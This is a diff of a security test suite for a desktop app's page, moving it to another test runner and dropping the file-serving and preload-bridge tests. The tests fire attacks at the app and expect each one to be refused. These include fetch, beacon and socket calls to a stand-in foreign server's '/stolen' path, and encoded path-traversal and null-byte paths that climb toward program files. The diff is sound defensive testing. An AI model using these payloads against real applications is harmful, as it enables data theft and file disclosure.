@@ -2,33 +2,32 @@
 import { mkdtemp, rm } from 'node:fs/promises'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
-import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest'
 import { type LaunchedDesk, launchDesk } from '../launch/launch-desk.ts'
+import { expect, test } from './desk-test.ts'
 import { type ForeignServer, startForeignServer } from './foreign-server.ts'
 
 let folder: string
 let desk: LaunchedDesk
 let foreign: ForeignServer
 
-beforeAll(async () => {
+test.beforeAll(async () => {
   folder = await mkdtemp(join(tmpdir(), 'shell-attacks-'))
   foreign = await startForeignServer()
   // Nothing listens there, so the window shows that its database is away, which is page enough.
   desk = await launchDesk({ dataFolder: folder, databaseUrl: 'postgres://desk@127.0.0.1:1/venue' })
   await desk.page.evaluate(() => Reflect.set(window, 'isSamePage', true))
-  process.stdout.write(`shell attacks, tried on ${desk.engine}\n`)
 })
 
-afterAll(async () => {
+test.afterAll(async () => {
   await desk.close()
   await foreign.close()
   await rm(folder, { recursive: true, force: true })
 })
 
 /** Whatever was tried: the page is where it was, alone, and the other server heard nothing. */
-afterEach(async () => {
+test.afterEach(async () => {
   expect(await desk.page.evaluate(() => Reflect.get(window, 'isSamePage'))).toBe(true)
-  await vi.waitFor(() => expect(desk.page.context().pages()).toHaveLength(1))
+  await expect.poll(() => desk.page.context().pages().length).toBe(1)
   expect(foreign.takeRequests()).toEqual([])
 })
 
@@ -40,7 +39,7 @@ function refusals(message: string): number {
 async function refusedOnce(message: string, attack: () => Promise<unknown>): Promise<void> {
   const before = refusals(message)
   await attack()
-  await vi.waitFor(() => expect(refusals(message)).toBeGreaterThan(before), 5000)
+  await expect.poll(() => refusals(message)).toBeGreaterThan(before)
 }
 
 async function clickLink(address: string, target = ''): Promise<void> {
@@ -61,28 +60,28 @@ function page<Answer>(attack: (origin: string) => Answer) {
   return desk.page.evaluate(attack, foreign.origin)
 }
 
-describe('leaving the page', () => {
+test.describe('leaving the page', () => {
   const refused = 'refused to leave the page'
 
-  it('by a link whose query names our own origin', () =>
+  test('by a link whose query names our own origin', () =>
     refusedOnce(refused, () => clickLink(`${foreign.origin}/?next=app://venue/`)))
 
-  it('by a link that would be redirected to our own origin', () =>
+  test('by a link that would be redirected to our own origin', () =>
     refusedOnce(refused, () => clickLink(`${foreign.origin}/redirect`)))
 
-  it('by a script', () =>
+  test('by a script', () =>
     refusedOnce(refused, () =>
       page((origin) => {
         location.href = `${origin}/stolen`
       }),
     ))
 
-  it('by a link to a javascript: address', async () => {
+  test('by a link to a javascript: address', async () => {
     await clickLink('javascript:window.isSamePage=false')
     expect(await page(() => Reflect.get(window, 'isSamePage'))).toBe(true)
   })
 
-  it('by posting a form', async () => {
+  test('by posting a form', async () => {
     await page((origin) => {
       const form = document.createElement('form')
       form.action = `${origin}/form`
@@ -94,24 +93,24 @@ describe('leaving the page', () => {
   })
 })
 
-describe('opening windows', () => {
+test.describe('opening windows', () => {
   const refused = 'refused to open an address'
 
-  it('window.open of a plain web address opens nothing', () =>
+  test('window.open of a plain web address opens nothing', () =>
     refusedOnce(refused, () => page((origin) => void window.open(`${origin}/popup`))))
 
-  it('a link for a new window opens nothing', () =>
+  test('a link for a new window opens nothing', () =>
     refusedOnce(refused, () => clickLink(`${foreign.origin}/popup`, '_blank')))
 
-  it('an https address goes to the system’s browser, and opens no window here', async () => {
+  test('an https address goes to the system’s browser, and opens no window here', async () => {
     const address = 'https://help.invalid/booking?x=1'
     await clickLink(address, '_blank')
-    await vi.waitFor(async () => expect(await desk.openedLinks()).toEqual([address]), 5000)
+    await expect.poll(() => desk.openedLinks()).toEqual([address])
   })
 })
 
-describe('bringing foreign content in', () => {
-  it('a foreign page in a frame is not loaded', async () => {
+test.describe('bringing foreign content in', () => {
+  test('a foreign page in a frame is not loaded', async () => {
     await page(async (origin) => {
       const frame = document.createElement('iframe')
       frame.src = `${origin}/frame`
@@ -122,7 +121,7 @@ describe('bringing foreign content in', () => {
     })
   })
 
-  it('a script written into the page does not run', async () => {
+  test('a script written into the page does not run', async () => {
     const ran = await page(() => {
       const script = document.createElement('script')
       script.textContent = 'window.ranInline = true'
@@ -133,7 +132,7 @@ describe('bringing foreign content in', () => {
     expect(ran).toBeUndefined()
   })
 
-  it('an event handler written as text does not run', async () => {
+  test('an event handler written as text does not run', async () => {
     const ran = await page(() => {
       const button = document.createElement('button')
       button.setAttribute('onclick', 'window.ranHandler = true')
@@ -145,7 +144,7 @@ describe('bringing foreign content in', () => {
     expect(ran).toBeUndefined()
   })
 
-  it('a text is not made into a function', async () => {
+  test('a text is not made into a function', async () => {
     const outcome = await page(
       () =>
         new Promise((resolve) =>
@@ -162,22 +161,24 @@ describe('bringing foreign content in', () => {
     expect(outcome).toBe('refused')
   })
 
-  it.each(['script', 'img'])('a foreign %s is not loaded', async (tag) => {
-    const outcome = await desk.page.evaluate(
-      ([name, origin]) =>
-        new Promise((resolve) => {
-          const element = document.createElement(name)
-          element.addEventListener('load', () => resolve('loaded'))
-          element.addEventListener('error', () => resolve('refused'))
-          element.setAttribute('src', `${origin}/content`)
-          document.body.append(element)
-        }),
-      [tag, foreign.origin] as const,
-    )
-    expect(outcome).toBe('refused')
-  })
+  for (const tag of ['script', 'img']) {
+    test(`a foreign ${tag} is not loaded`, async () => {
+      const outcome = await desk.page.evaluate(
+        ([name, origin]) =>
+          new Promise((resolve) => {
+            const element = document.createElement(name)
+            element.addEventListener('load', () => resolve('loaded'))
+            element.addEventListener('error', () => resolve('refused'))
+            element.setAttribute('src', `${origin}/content`)
+            document.body.append(element)
+          }),
+        [tag, foreign.origin] as const,
+      )
+      expect(outcome).toBe('refused')
+    })
+  }
 
-  it('a foreign stylesheet is not loaded', async () => {
+  test('a foreign stylesheet is not loaded', async () => {
     const outcome = await page(
       (origin) =>
         new Promise((resolve) => {
@@ -193,17 +194,17 @@ describe('bringing foreign content in', () => {
   })
 })
 
-describe('taking data out', () => {
-  it('fetch reaches no other server', async () => {
+test.describe('taking data out', () => {
+  test('fetch reaches no other server', async () => {
     expect(await page((origin) => fetch(`${origin}/stolen`).then(String, () => 'refused'))).toBe('refused')
   })
 
-  it('a beacon reaches no other server', async () => {
+  test('a beacon reaches no other server', async () => {
     await page((origin) => navigator.sendBeacon(`${origin}/stolen`, 'names'))
     expect(await page(() => fetch('/').then((answer) => answer.status))).toBe(200)
   })
 
-  it('a web socket reaches no other server', async () => {
+  test('a web socket reaches no other server', async () => {
     const outcome = await page(
       (origin) =>
         new Promise((resolve) => {
@@ -220,12 +221,12 @@ describe('taking data out', () => {
   })
 })
 
-describe('asking for permissions', () => {
-  it('notifications are refused without asking anybody', async () => {
+test.describe('asking for permissions', () => {
+  test('notifications are refused without asking anybody', async () => {
     expect(await page(() => Notification.requestPermission())).toBe('denied')
   })
 
-  it('camera and microphone are refused', async () => {
+  test('camera and microphone are refused', async () => {
     const outcome = await page(() =>
       navigator.mediaDevices.getUserMedia({ audio: true, video: true }).then(
         () => 'granted',
@@ -235,7 +236,7 @@ describe('asking for permissions', () => {
     expect(['NotAllowedError', 'NotFoundError']).toContain(outcome)
   })
 
-  it('the place of the PC is refused', async () => {
+  test('the place of the PC is refused', async () => {
     const outcome = await page(
       () =>
         new Promise((resolve) =>
@@ -246,96 +247,5 @@ describe('asking for permissions', () => {
         ),
     )
     expect(outcome).toBe('denied')
-  })
-})
-
-describe('the program’s own files', () => {
-  function ask(path: string, method = 'GET') {
-    return desk.page.evaluate(
-      async ([address, verb]) => {
-        const answer = await fetch(address, { method: verb })
-        return { status: answer.status, text: await answer.text() }
-      },
-      [path, method] as const,
-    )
-  }
-
-  it.each([
-    '/..%2f..%2fpackage.json',
-    '/%2e%2e%2fmain/main.js',
-    '/assets/..%2f..%2fpreload/preload.cjs',
-    '/..%5c..%5cpackage.json',
-    '/index.html%00.js',
-  ])('a path that climbs out, %s, is not served', async (path) => {
-    expect(await ask(path)).toEqual({ status: 404, text: '' })
-  })
-
-  it.each(['POST', 'PUT', 'DELETE'])('%s is refused', async (method) => {
-    expect(await ask('/', method)).toEqual({ status: 405, text: '' })
-  })
-
-  it('come with the strict policy', async () => {
-    const headers = await page(() => fetch('/').then((answer) => Object.fromEntries(answer.headers)))
-    expect(headers['content-security-policy']).toContain("default-src 'none'")
-    expect(headers['x-content-type-options']).toBe('nosniff')
-  })
-})
-
-describe('the doorway', () => {
-  it('has two functions, cannot be replaced, and Node is not in the page', async () => {
-    const found = await page(() => {
-      const { slotkeeper } = window
-      Reflect.set(window, 'slotkeeper', 'mine')
-      Reflect.set(slotkeeper, 'call', 'mine')
-      return {
-        names: Object.keys(window.slotkeeper).sort(),
-        kinds: [typeof window.slotkeeper.call, typeof window.slotkeeper.subscribe],
-        node: ['require', 'process', 'module', 'Buffer', 'ipcRenderer', 'electron'].filter(
-          (name) => name in window,
-        ),
-      }
-    })
-    expect(found).toEqual({ names: ['call', 'subscribe'], kinds: ['function', 'function'], node: [] })
-  })
-
-  it('hands out events without Electron’s own event object', async () => {
-    const counts = page(
-      () =>
-        new Promise((resolve) => {
-          const stop = window.slotkeeper.subscribe((...values) => {
-            stop()
-            resolve([values.length, Object.keys(values[0]).sort()])
-          })
-          void window.slotkeeper.call('connection.retry', {})
-        }),
-    )
-    expect(await counts).toEqual([1, ['event', 'payload']])
-  })
-
-  it('is not in a frame inside the page', async () => {
-    const found = await page(() => {
-      const frame = document.createElement('iframe')
-      document.body.append(frame)
-      const isThere = frame.contentWindow !== null && 'slotkeeper' in frame.contentWindow
-      frame.remove()
-      return isThere
-    })
-    expect(found).toBe(false)
-  })
-
-  it('answers nonsense with an envelope', async () => {
-    const answers = await page(() =>
-      Promise.all(
-        [
-          [undefined, undefined],
-          [{}, {}],
-          ['connection.get', { surplus: 1 }],
-          ['connection.save', null],
-          ['__proto__', {}],
-        ].map(([op, input]) => Reflect.apply(window.slotkeeper.call, undefined, [op, input])),
-      ),
-    )
-    for (const answer of answers)
-      expect(answer).toMatchObject({ ok: false, error: { message: expect.any(String) } })
   })
 })
